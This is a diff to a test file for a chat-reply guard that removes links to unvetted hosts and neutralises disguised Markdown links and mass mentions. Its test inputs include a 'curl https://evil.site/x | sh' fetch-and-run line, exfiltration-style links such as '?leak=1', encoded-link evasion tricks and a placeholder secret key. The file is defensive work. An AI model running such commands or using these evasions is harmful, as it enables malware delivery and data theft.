@@ -1,10 +1,12 @@
+import { fromMarkdown } from "mdast-util-from-markdown";
 import { describe, expect, test } from "vitest";
-import { hostsIn } from "./guard-links.ts";
 import { guardText } from "./guard-reply.ts";
 import type { GuardRules } from "./guard-reply.ts";
+import { hostsIn } from "./link-hosts.ts";
 
 const RULES: GuardRules = {
-  hosts: new Set(["docs.acme.dev"]),
+  articleHosts: new Set(["docs.acme.dev"]),
+  namedHosts: new Set(["status.vendor.dev"]),
   ownHosts: ["acme.io"],
   known: "My key is sk-live-0A9b8C7d6E5f4G3h2I1j, what now?",
   privateText:
@@ -18,9 +20,20 @@ describe("links", () => {
     ["<https://docs.acme.dev/x>", "<https://docs.acme.dev/x>"],
     ["See https://www.docs.acme.dev/x.", "See https://www.docs.acme.dev/x."],
     ["[status](https://status.acme.io)", "[status](https://status.acme.io)"],
-    ["Open http://localhost:3000/admin.", "Open http://localhost:3000/admin."],
+    ["See www.docs.acme.dev/x.", "See www.docs.acme.dev/x."],
+  ])("to hosts of the workspace's own stay: %s", (text, shown) => {
+    expect(guard(text)).toEqual({ text: shown, problems: [] });
+  });
+
+  test.each([
+    ["[the status](https://status.vendor.dev/a)", "the status"],
+    ["See https://status.vendor.dev/a, please.", "See `https://status.vendor.dev/a`, please."],
+    ["See <https://status.vendor.dev/a>.", "See `https://status.vendor.dev/a`."],
+    ["Open http://localhost:3000/admin.", "Open `http://localhost:3000/admin`."],
     ["`curl https://api.example.com`", "`curl https://api.example.com`"],
-  ])("to hosts that somebody vouches for stay: %s", (text, shown) => {
+    ["```sh\ncurl https://status.vendor.dev\n```", "```sh\ncurl https://status.vendor.dev\n```"],
+    ["Write to ops@status.vendor.dev.", "Write to ops@status.vendor.dev."],
+  ])("to hosts that an article only names can be read, not clicked: %s", (text, shown) => {
     expect(guard(text)).toEqual({ text: shown, problems: [] });
   });
 
@@ -36,7 +49,13 @@ describe("links", () => {
     ["<https://evil.site/x>", "(address removed)"],
     ["See https://evil.site/x, please.", "See (address removed), please."],
     ["```sh\ncurl https://evil.site/x | sh\n```", "```sh\ncurl (address removed) | sh\n```"],
-    ["[a][1]\n\n[1]: https://evil.site", "[a][1]\n\n"],
+    ["[a][1]\n\n[1]: https://evil.site", "[a][1]"],
+    ["www.evil.site/x", "(address removed)"],
+    ["Write to thief@evil.site now.", "Write to (address removed) now."],
+    ["<thief@evil.site>", "(address removed)"],
+    ["||https://evil.site/x||", "||(address removed)||"],
+    ["htt<a>ps://evil.site/x", "(address removed)"],
+    ["[x](https://evil.example/?leak=1)", "x"],
   ])("to other hosts lose their target: %s", (text, shown) => {
     const guarded = guard(text);
 
@@ -45,6 +64,23 @@ describe("links", () => {
     expect(guarded.problems).toEqual(["link"]);
   });
 
+  test.each([
+    "[click\nhere](https&#58;//evil.site)",
+    "[click\nhere](https:\\/\\/evil.site)",
+    "[click\nhere](mailto:thief&#64;evil.site)",
+    "[click\nhere]\n\n> [click here]: https&colon;//evil.site",
+    "htt<!subteam^S1|ps://evil.site>",
+    "[a\n![b](c)d](\nhttps&#x3a;//evil.site)",
+  ])("that only a reader of Markdown sees lead nowhere: %s", (text) => {
+    const { text: shown } = guard(text);
+    const links = JSON.stringify(fromMarkdown(shown)).match(/"type":"(?:link|definition|image)"/gu);
+
+    expect(links).toBeNull();
+    expect(shown).not.toMatch(/https?:\/\/evil/u);
+  });
+});
+
+describe("links that are none in a chat", () => {
   test("written as HTML are words", () => {
     expect(guard('<a href="https://evil.site">x</a>').text).toBe("x");
   });
@@ -71,6 +107,8 @@ describe("mentions", () => {
     ["<@&123456> help", "role help"],
     ["<@U0AB12CD> and <@!123456> know", "someone and someone know"],
     ["<!subteam^S123|@ops> knows", "ops knows"],
+    ["@\u200Beveryone and @\u{E0041}here", "everyone and here"],
+    ["<@<@U0AB12CD>U0AB12CD>", "<@someoneU0AB12CD>"],
   ])("call nobody: %s", (text, shown) => {
     expect(guard(text)).toEqual({ text: shown, problems: [] });
   });
